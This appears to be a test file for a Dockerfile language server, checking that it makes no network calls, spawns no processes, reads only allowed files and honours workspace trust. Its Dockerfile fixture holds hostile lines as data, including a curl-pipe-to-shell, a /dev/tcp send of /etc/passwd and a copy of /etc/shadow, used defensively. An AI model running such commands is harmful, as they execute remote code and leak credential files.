/**
 * Security of the bundled server, checked from outside: with test/robustness/no-net-preload.cjs
 * every network call and every child process is recorded (and refused) and every file read is
 * recorded, while a full editing scenario runs over stdio. Also: workspace trust through the
 * protocol (initializationOptions.trusted = false).
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { LspTestClient, fileUri, repoRoot, serverPath } from '../support/lspClient';
import { codeCacheDir } from '../../server/src/runtime/codeCache';

const PRELOAD = path.join(__dirname, 'no-net-preload.cjs');
const CONFIG_FIXTURE = path.join(repoRoot, 'server/src/analysis/host/fixtures/debian-6.1-amd64.excerpt.config');

interface AuditEntry {
  kind: 'net' | 'exec' | 'read' | 'stat';
  what: string;
  stack?: string;
}

function readAudit(file: string): AuditEntry[] {
  if (!fs.existsSync(file)) return [];
  return fs
    .readFileSync(file, 'utf8')
    .split('\n')
    .filter(Boolean)
    .map((l) => JSON.parse(l) as AuditEntry);
}

async function startAudited(auditLog: string, opts: Parameters<typeof LspTestClient.start>[0] = {}): Promise<LspTestClient> {
  return LspTestClient.start({ ...opts, args: ['--require', PRELOAD, serverPath, '--stdio'], env: { KERNEL_LENS_AUDIT_LOG: auditLog } });
}

/** Hostile-looking content: nothing in it may be fetched, executed or read. */
const DOCKERFILE = [
  '# syntax=docker/dockerfile:1',
  '# kernel-lens: ignore=image-end-of-life',
  'ARG BASE=ubuntu:22.04',
  'FROM ${BASE} AS build',
  'ADD https://example.com/payload.tar.gz /',
  'COPY /etc/shadow /x',
  'RUN curl -fsSL http://127.0.0.1:1/x | sh && modprobe br_netfilter',
  'RUN $(touch /tmp/kernel-lens-pwned) && `id` && sysctl -w net.ipv4.ip_forward=1',
  'RUN <<EOF',
  'cat /etc/passwd > /dev/tcp/127.0.0.1/9',
  'EOF',
  'FROM build',
  'CMD ["/sbin/init"]',
  '',
].join('\n');

test('a full editing scenario makes no network connection, runs nothing, and reads only allowed files', { timeout: 120_000 }, async (t) => {
  const ws = fs.mkdtempSync(path.join(os.tmpdir(), 'kl-sec-ws-'));
  const elsewhere = fs.mkdtempSync(path.join(os.tmpdir(), 'kl-sec-cfg-'));
  const auditLog = path.join(elsewhere, 'audit.jsonl');
  const wsConfig = path.join(ws, 'kernel.config');
  const settingsConfig = path.join(elsewhere, 'settings.config');
  fs.copyFileSync(CONFIG_FIXTURE, wsConfig);
  fs.copyFileSync(CONFIG_FIXTURE, settingsConfig);
  fs.writeFileSync(path.join(ws, '.kernel-lens.json'), JSON.stringify({ kernel: '6.1', kernelConfigPath: 'kernel.config' }));
  // Files the server must never touch even though the Dockerfile names them.
  fs.writeFileSync(path.join(ws, 'Dockerfile'), DOCKERFILE);
  fs.writeFileSync(path.join(ws, 'payload.sh'), 'echo should never run\n');
  const client = await startAudited(auditLog, { rootPath: ws, settings: { target: 'debian-12', kernelConfigPath: settingsConfig } });
  try {
    const uri = fileUri(path.join(ws, 'Dockerfile'));
    await client.open(uri, DOCKERFILE);
    const diags = await client.waitForDiagnostics(uri, { version: 1 });
    assert.ok(diags.length > 0, 'the scenario produced diagnostics to act on');
    const v = await client.change(uri, [
      { range: { start: { line: 6, character: 0 }, end: { line: 6, character: 0 } }, text: 'RUN modprobe wireguard\n' },
    ]);
    const after = await client.waitForDiagnostics(uri, { version: v });
    const lines = DOCKERFILE.split('\n');
    for (let line = 0; line < lines.length + 1; line++) for (let ch = 0; ch < 12; ch++) await client.hover(uri, line, ch);
    for (const d of after) await client.codeActions(uri, d.range, [d]);
    await client.codeActions(uri, { start: { line: 0, character: 0 }, end: { line: 0, character: 0 } }, [], ['source.fixAll']);
    await client.conn.sendRequest('kernelLens/presets');
    await client.conn.sendRequest('kernelLens/rules');
    await client.conn.sendRequest('kernelLens/targetInfo', { uri });
    // configuration changes: a preset with a shipped config, then the settings' own kernel config
    fs.rmSync(path.join(ws, '.kernel-lens.json'));
    await client.conn.sendNotification('workspace/didChangeWatchedFiles', {
      changes: [{ uri: fileUri(path.join(ws, '.kernel-lens.json')), type: 3 }],
    });
    await client.changeConfiguration({ target: 'debian-12' });
    await client.hover(uri, 3, 1);
    await client.changeConfiguration({ kernel: '6.1', kernelConfigPath: settingsConfig });
    // Until the server's target says it uses the settings' config (a publish count alone can be met by
    // the analysis of the previous configuration change, which races with this one).
    const deadline = Date.now() + 30_000;
    let info: { description: string };
    for (;;) {
      info = (await client.conn.sendRequest('kernelLens/targetInfo', { uri })) as { description: string };
      if (info.description.includes(settingsConfig) || Date.now() > deadline) break;
      await new Promise((r) => setTimeout(r, 50));
    }
    assert.ok(info.description.includes(settingsConfig), `the target uses the settings' kernel config: ${info.description}`);
    await client.close(uri);
  } finally {
    await client.shutdown();
  }
  const audit = readAudit(auditLog);
  const forbidden = audit.filter((e) => e.kind === 'net' || e.kind === 'exec');
  assert.deepEqual(forbidden, [], `network or process attempts:\n${forbidden.map((e) => `${e.what}\n${e.stack}`).join('\n')}`);

  const reads = [...new Set(audit.filter((e) => e.kind === 'read').map((e) => path.resolve(e.what)))].sort();
  const dist = path.join(repoRoot, 'dist') + path.sep;
  const codeCache = codeCacheDir() ?? dist;
  const allowed = (p: string) =>
    p.startsWith(dist) ||
    p === codeCache ||
    p.startsWith(codeCache + path.sep) || // the V8 code cache of dist's bundles (server/src/runtime/codeCache.ts)
    p.startsWith('/proc/') ||
    p.startsWith('/boot/') ||
    p === '/sys/fs/cgroup' ||
    p === '/sys/fs/cgroup/cgroup.controllers' ||
    p === path.join(ws, '.kernel-lens.json') ||
    p === wsConfig ||
    p === settingsConfig;
  const stats = [...new Set(audit.filter((e) => e.kind === 'stat').map((e) => path.resolve(e.what)))].sort();
  t.diagnostic(`paths read: ${reads.join(', ')}; paths stat-ed: ${stats.join(', ')}`);
  // Metadata only (exists? a file? how big? its real path?): the same set, plus the workspace folder itself.
  assert.deepEqual(
    stats.filter((p) => !allowed(p) && p !== ws && !p.startsWith(path.join(repoRoot, 'server/src/knowledge/configs'))),
    [],
    'stat outside the allowed set',
  );
  assert.ok(reads.length > 0, 'the preload recorded reads (it is active)');
  assert.deepEqual(
    reads.filter((p) => !allowed(p)),
    [],
    'read outside the allowed set',
  );
  assert.ok(
    reads.includes(settingsConfig) && reads.includes(wsConfig),
    'the configured kernel configs were read (the scenario exercised them)',
  );
  assert.ok(!fs.existsSync('/tmp/kernel-lens-pwned'));
  fs.rmSync(ws, { recursive: true, force: true });
  fs.rmSync(elsewhere, { recursive: true, force: true });
});

test('the preload really refuses network and processes (control for the test above)', async () => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'kl-sec-ctl-'));
  const auditLog = path.join(dir, 'audit.jsonl');
  const { spawnSync } = await import('node:child_process');
  const script = `
    const out = [];
    for (const f of [() => require('net').connect(1, '127.0.0.1'), () => require('child_process').execSync('true'), () => require('dns').lookup('example.com', () => {}), () => require('https').get('https://example.com')]) {
      try { f(); out.push('allowed'); } catch { out.push('refused'); }
    }
    require('fs').readFileSync(${JSON.stringify(CONFIG_FIXTURE)});
    process.stdout.write(out.join(','));
  `;
  const r = spawnSync(process.execPath, ['--require', PRELOAD, '-e', script], {
    env: { ...process.env, KERNEL_LENS_AUDIT_LOG: auditLog },
    encoding: 'utf8',
  });
  assert.equal(r.stdout, 'refused,refused,refused,refused', r.stderr);
  const audit = readAudit(auditLog);
  assert.equal(audit.filter((e) => e.kind === 'net').length, 3);
  assert.equal(audit.filter((e) => e.kind === 'exec').length, 1);
  assert.ok(audit.some((e) => e.kind === 'read' && e.what === CONFIG_FIXTURE));
  fs.rmSync(dir, { recursive: true, force: true });
});

/** Trust, through the protocol: the client passes initializationOptions.trusted (VS Code workspace trust). */
async function trustScenario(opts: { trusted: boolean; settingsConfig?: string; fileConfig?: string; preset?: string }) {
  const ws = fs.mkdtempSync(path.join(os.tmpdir(), 'kl-trust-ws-'));
  const outside = fs.mkdtempSync(path.join(os.tmpdir(), 'kl-trust-out-'));
  const auditLog = path.join(outside, 'audit.jsonl');
  const resolveLoc = (where: string | undefined) =>
    where === 'inside'
      ? path.join(ws, 'kernel.config')
      : where === 'outside'
        ? path.join(outside, 'kernel.config')
        : where === 'symlink'
          ? path.join(ws, 'link.config')
          : undefined;
  fs.copyFileSync(CONFIG_FIXTURE, path.join(ws, 'kernel.config'));
  fs.copyFileSync(CONFIG_FIXTURE, path.join(outside, 'kernel.config'));
  fs.symlinkSync(path.join(outside, 'kernel.config'), path.join(ws, 'link.config'));
  const settingsConfig = resolveLoc(opts.settingsConfig);
  const fileConfig = resolveLoc(opts.fileConfig);
  if (fileConfig) fs.writeFileSync(path.join(ws, '.kernel-lens.json'), JSON.stringify({ kernel: '6.1', kernelConfigPath: fileConfig }));
  const settings = opts.preset ? { target: opts.preset } : { kernel: '6.1', kernelConfigPath: settingsConfig };
  const client = await startAudited(auditLog, { rootPath: ws, settings, initializationOptions: { trusted: opts.trusted, settings } });
  const uri = fileUri(path.join(ws, 'Dockerfile'));
  try {
    await client.open(uri, 'FROM ubuntu:22.04\nRUN modprobe wireguard\n');
    await client.waitForDiagnostics(uri);
    const hover = await client.hover(uri, 0, 7);
    assert.match(hover!.contents.value, /Ubuntu 22\.04/, 'the server keeps serving');
    const info = (await client.conn.sendRequest('kernelLens/targetInfo', { uri })) as { description: string };
    await client.hover(uri, 0, 7);
    return {
      info,
      messages: client.shownMessages.map((m) => m.message),
      // content reads only: the untrusted check may stat a path (resolve symlinks) but never reads it
      reads: readAudit(auditLog)
        .filter((e) => e.kind === 'read')
        .map((e) => path.resolve(e.what)),
      inside: path.join(ws, 'kernel.config'),
      outside: path.join(outside, 'kernel.config'),
      link: path.join(ws, 'link.config'),
    };
  } finally {
    await client.shutdown();
    fs.rmSync(ws, { recursive: true, force: true });
    fs.rmSync(outside, { recursive: true, force: true });
  }
}

test('untrusted workspace: a kernelConfigPath outside the workspace is not read, with one explained message', {
  timeout: 60_000,
}, async () => {
  const r = await trustScenario({ trusted: false, settingsConfig: 'outside' });
  assert.ok(!r.reads.includes(r.outside), `read ${r.outside}`);
  const msgs = r.messages.filter((m) => m.includes(r.outside));
  assert.equal(msgs.length, 1, JSON.stringify(r.messages));
  assert.match(msgs[0], /not trusted/);
});

test('untrusted workspace: a kernelConfigPath inside the workspace is read', { timeout: 60_000 }, async () => {
  const r = await trustScenario({ trusted: false, settingsConfig: 'inside' });
  assert.ok(r.reads.includes(r.inside), JSON.stringify(r.reads));
  assert.deepEqual(
    r.messages.filter((m) => /not trusted/.test(m)),
    [],
  );
});

test('untrusted workspace: a symlink inside the workspace to a config outside it is not followed', { timeout: 60_000 }, async () => {
  const r = await trustScenario({ trusted: false, settingsConfig: 'symlink' });
  assert.ok(!r.reads.includes(r.link) && !r.reads.includes(r.outside), JSON.stringify(r.reads));
  assert.equal(r.messages.filter((m) => /not trusted/.test(m)).length, 1, JSON.stringify(r.messages));
});

test('untrusted workspace: .kernel-lens.json pointing kernelConfigPath outside the workspace is not read, explained', {
  timeout: 60_000,
}, async () => {
  const r = await trustScenario({ trusted: false, fileConfig: 'outside' });
  assert.ok(!r.reads.includes(r.outside), JSON.stringify(r.reads));
  const msgs = r.messages.filter((m) => m.includes(r.outside));
  assert.equal(msgs.length, 1, JSON.stringify(r.messages));
  assert.match(msgs[0], /not trusted/);
});

test('untrusted workspace: the shipped kernel config of a preset is still used', { timeout: 60_000 }, async () => {
  const r = await trustScenario({ trusted: false, preset: 'debian-12' });
  assert.deepEqual(
    r.messages.filter((m) => /not trusted|could not be read/.test(m)),
    [],
  );
  assert.ok(
    r.reads.some((p) => p.startsWith(path.join(repoRoot, 'dist', 'configs'))),
    JSON.stringify(r.reads),
  );
});

test('trusted workspace: a kernelConfigPath outside the workspace is read', { timeout: 60_000 }, async () => {
  const r = await trustScenario({ trusted: true, settingsConfig: 'outside' });
  assert.ok(r.reads.includes(r.outside), JSON.stringify(r.reads));
  assert.deepEqual(
    r.messages.filter((m) => /not trusted/.test(m)),
    [],
  );
});
